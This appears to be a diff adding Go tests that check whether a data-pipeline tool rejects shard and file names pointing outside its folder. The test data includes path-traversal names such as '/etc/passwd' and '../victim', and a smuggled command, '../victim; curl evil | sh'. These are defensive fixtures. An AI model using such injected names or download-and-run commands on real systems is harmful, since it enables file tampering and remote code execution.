@@ -1,0 +1,202 @@
+package folder_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"capgraph/folder"
+	"capgraph/store"
+)
+
+// write writes files of a folder, by their names.
+func write(t testing.TB, dir string, files map[string]string) folder.Folder {
+	t.Helper()
+	for name, content := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o666); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return folder.Folder{Store: store.Local{}, Dir: dir}
+}
+
+// bad are names that no shard has.
+var bad = []string{"", ".", "..", "../victim", "a/b", "/etc/passwd", `a\b`, "a.b", "a\nb", "a\x1b[2J", "a\u009bb", "\xff"}
+
+func TestIsShardName(t *testing.T) {
+	for _, name := range []string{"train-00000-of-00010", "00000", "größe 1", "a;b", "-", "$(x)"} {
+		if !folder.IsShardName(name) {
+			t.Errorf("%q is no name of a shard", name)
+		}
+	}
+	for _, name := range bad {
+		if folder.IsShardName(name) {
+			t.Errorf("%q is the name of a shard", name)
+		}
+	}
+}
+
+// Names that lead elsewhere are refused where they are read, with the file that has them.
+func TestNamesThatLeadElsewhere(t *testing.T) {
+	index := `{"plan":"0","files":[{"name":"a.tsv"}],"shards":[{"name":"a","file":0}]}`
+	f := write(t, t.TempDir(), map[string]string{
+		".capgraph/index.json":           strings.Replace(index, `"name":"a",`, `"name":"../../victim",`, 1),
+		".capgraph/entries/parse/a.json": `{"pass":"parse","shard":"a","files":[{"name":"../victim; curl evil | sh"}]}`,
+		".capgraph/entries/texts/a.json": `{"pass":"texts","shard":"a","files":[{"name":"graphs/a.parquet"}]}`,
+		".capgraph/entries/count/a.json": `{"pass":"count","shard":"a","files":[{"name":".capgraph/runs/count/../../index.parquet"}]}`,
+		".capgraph/plans/count.json":     `{"pass":"count","settings":{},"input":"0 without ../victim"}`,
+		".capgraph/failed/parse/a.json":  `{"pass":"parse","shard":"../victim"}`,
+	})
+	_, atIndex := f.Index()
+	_, atParse := f.Entry(folder.PassParse, "a")
+	_, atTexts := f.Entry(folder.PassTexts, "a")
+	_, atCount := f.Entry(folder.PassCount, "a")
+	_, atPlan := f.Plan(folder.PassCount)
+	state, err := f.State(&folder.Index{Files: []folder.SourceFile{{}}, Shards: []folder.Shard{{Name: "a"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(f.Path(".capgraph/entries/parse/a.json")); err != nil {
+		t.Fatal(err)
+	}
+	if state, err = state.After(folder.PassParse); err != nil {
+		t.Fatal(err)
+	}
+	_, atFailure := state.Failures(folder.PassParse)
+	for want, err := range map[string]error{
+		`index.json is damaged: no shard can have the name "../../victim" (run again with --redo index)`:                                          atIndex,
+		`entries/parse/a.json is damaged: it names "../victim; curl evil | sh", which is no file of its pass and shard (remove it and run again)`: atParse,
+		`entries/texts/a.json is damaged: it names "graphs/a.parquet"`:                                                                            atTexts,
+		`entries/count/a.json is damaged: it names ".capgraph/runs/count/../../index.parquet"`:                                                    atCount,
+		`plans/count.json is damaged: no shard can have the name "../victim"`:                                                                     atPlan,
+		`failed/parse/a.json is damaged: it is of pass "parse" and shard "../victim"`:                                                             atFailure,
+	} {
+		if err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%v, want %s", err, want)
+		}
+	}
+}
+
+// A compacted state that names shards that are not finished is made anew.
+func TestCompactOfOtherShards(t *testing.T) {
+	x := &folder.Index{Plan: "0", Files: []folder.SourceFile{{}}}
+	files := map[string]string{}
+	for i := range folder.CompactFrom {
+		name := "s" + strings.Repeat("x", i)
+		x.Shards = append(x.Shards, folder.Shard{Name: name})
+		files[folder.EntryFile(folder.PassTally, name)] = `{"pass":"tally","shard":"` + name + `","plan":"1","rows_in":1}`
+	}
+	files[folder.PlanFile(folder.PassTally)] = `{"pass":"tally","settings":{}}`
+	f := write(t, t.TempDir(), files)
+	keep := func() *folder.State {
+		state, err := f.State(x)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := state.KeepCompact(folder.PassTally); err != nil {
+			t.Fatal(err)
+		}
+		return state
+	}
+	keep()
+	kept := f.Path(".capgraph/compact/tally/state.json")
+	content, err := os.ReadFile(kept)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(kept, []byte(strings.Replace(string(content), `"1": "s"`, `"1": "../../../../victim"`, 1)), 0o666); err != nil {
+		t.Fatal(err)
+	}
+	if err := keep().CheckPlan(folder.PassTally); err == nil || strings.Contains(err.Error(), "victim") || !strings.Contains(err.Error(), "shard s of pass tally") {
+		t.Error(err)
+	}
+}
+
+// Whatever a folder's bookkeeping holds, what is read of it names nothing outside the folder.
+func FuzzIndex(f *testing.F) {
+	f.Add([]byte(`{"format":"2","plan":"0","files":[{"name":"a.tsv","size":1,"rows":1}],"shards":[{"name":"a","file":0,"rows":1}]}`), []byte(`{"plan":"1","files":[],"shards":[]}`))
+	f.Add([]byte(`{"plan":"0","shards":[{"name":"../a","file":-1}],"keep":["text"]}`), []byte("null"))
+	dir := f.TempDir()
+	f.Fuzz(func(t *testing.T, first, joined []byte) {
+		in := write(t, dir, map[string]string{folder.IndexFile: string(first), ".capgraph/index-00001.json": string(joined)})
+		x, err := in.Index()
+		if err != nil {
+			return
+		}
+		for _, s := range x.Shards {
+			x.Broken(s)
+			for _, pass := range folder.ShardPasses() {
+				checkInside(t, in, folder.Data(pass, s.Name), folder.EntryFile(pass, s.Name))
+			}
+		}
+		x.Nothing()
+		x.GrownInput()
+		if _, err := in.State(x); err != nil {
+			t.Error(err)
+		}
+	})
+}
+
+func FuzzEntry(f *testing.F) {
+	for _, pass := range []folder.Pass{folder.PassParse, folder.PassTally, folder.PassCount, folder.PassTexts} {
+		f.Add(string(pass), []byte(`{"pass":"`+string(pass)+`","shard":"a","rejects":{"empty":1},"files":[{"name":"graphs/a.parquet"},{"name":".capgraph/runs/count/b.parquet"}]}`))
+	}
+	dir := f.TempDir()
+	f.Fuzz(func(t *testing.T, pass string, entry []byte) {
+		if !folder.IsShardName(pass) {
+			return
+		}
+		in := write(t, dir, map[string]string{folder.EntryFile(folder.Pass(pass), "a"): string(entry), ".capgraph/failed/parse/a.json": string(entry)})
+		e, err := in.Entry(folder.Pass(pass), "a")
+		if err != nil {
+			return
+		}
+		for _, file := range e.Files {
+			checkInside(t, in, file.Name)
+		}
+		in.Again(folder.Pass(pass), "a", e)
+		account := folder.Account{Rejects: map[string]int64{}, Stats: map[string]int64{}}
+		account.Add(e)
+		account.Rejected()
+	})
+}
+
+func FuzzPlan(f *testing.F) {
+	f.Add([]byte(`{"pass":"count","format":"2","version":"count/1","input":"0 and 1 without a without b","settings":{"dedupe":{"key":"image"}}}`))
+	f.Add([]byte(`{"pass":"count","settings":null}`))
+	dir := f.TempDir()
+	other, err := folder.NewPlan(folder.PassCount, "count/2", "0", map[string]any{"seed": 1})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, plan []byte) {
+		in := write(t, dir, map[string]string{folder.PlanFile(folder.PassCount): string(plan)})
+		p, err := in.Plan(folder.PassCount)
+		if err != nil {
+			return
+		}
+		p.Hash()
+		folder.Changed(p, other)
+		folder.GoesOn(p, other, true)
+		for _, shard := range strings.Split(p.Input, folder.Without)[1:] {
+			if !folder.IsShardName(shard) {
+				t.Errorf("the input is without %q", shard)
+			}
+		}
+	})
+}
+
+// checkInside checks that files of those names lie in the folder.
+func checkInside(t *testing.T, in folder.Folder, names ...string) {
+	t.Helper()
+	for _, name := range names {
+		if rel, err := filepath.Rel(in.Dir, in.Path(name)); err != nil || !filepath.IsLocal(rel) || strings.ContainsFunc(name, func(r rune) bool { return r < ' ' }) {
+			t.Errorf("%q leads to %q", name, in.Path(name))
+		}
+	}
+}
